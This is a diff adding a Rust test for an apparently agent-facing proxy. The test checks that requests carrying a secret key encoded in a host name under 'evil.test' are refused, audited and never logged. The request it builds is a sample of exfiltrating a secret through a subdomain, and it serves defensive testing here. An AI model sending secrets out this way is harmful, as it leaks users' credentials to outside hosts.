@@ -103,6 +103,36 @@ fn a_secret_in_its_own_slot_is_known_and_never_recorded() {
     world.home.never_leaks(&[&bot], &[]);
 }
 
+/// Names of hosts have no capitals: keys in hex are whole in them.
+#[test]
+fn a_secret_in_the_name_of_a_host_is_recorded_and_looked_up_nowhere() {
+    let hex = canary().split_off("sk-canary-".len());
+    let world = World::with(BEARER, canary(), |home, _| {
+        let slots = ["--to", "https://else.test", "--header", "X-Key: {secret}"];
+        home.add("hexadecimal", &slots, &hex);
+        home.policy("version: 1\nrules:\n- {name: any, agents: ['*'], to: ['https://**', 'http://**'], tunnel: opaque}\n");
+    });
+    let host = format!("{hex}.evil.test");
+    let own = world.agent.authorization();
+    let plain = format!(
+        "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {own}\r\n\r\n"
+    );
+    for ask in [connect(&format!("{host}:443"), &own), plain] {
+        let mut door = world.serve.wire();
+        door.send(&ask);
+        let answer = door.answer_to(ask.split(' ').next().unwrap());
+        refused(&world, &answer, &ask);
+    }
+    // Nor from somebody whom nobody knows.
+    let mut door = world.serve.wire();
+    door.send(connect(&format!("{host}:443"), &basic("worker", "wrong")));
+    assert_eq!(door.answer_to("CONNECT").status, 407);
+    let audit = world.home.audit();
+    let of = |code: &str| audit.iter().filter(|record| record["code"] == code).count();
+    assert_eq!((of("real-credential"), of("proxy-auth-required")), (2, 1));
+    world.home.never_leaks(&[&hex], &[("the log", world.serve.log().as_bytes())]);
+}
+
 #[test]
 fn a_secret_behind_a_body_is_known_and_breaks_the_request_off() {
     let world = World::new();
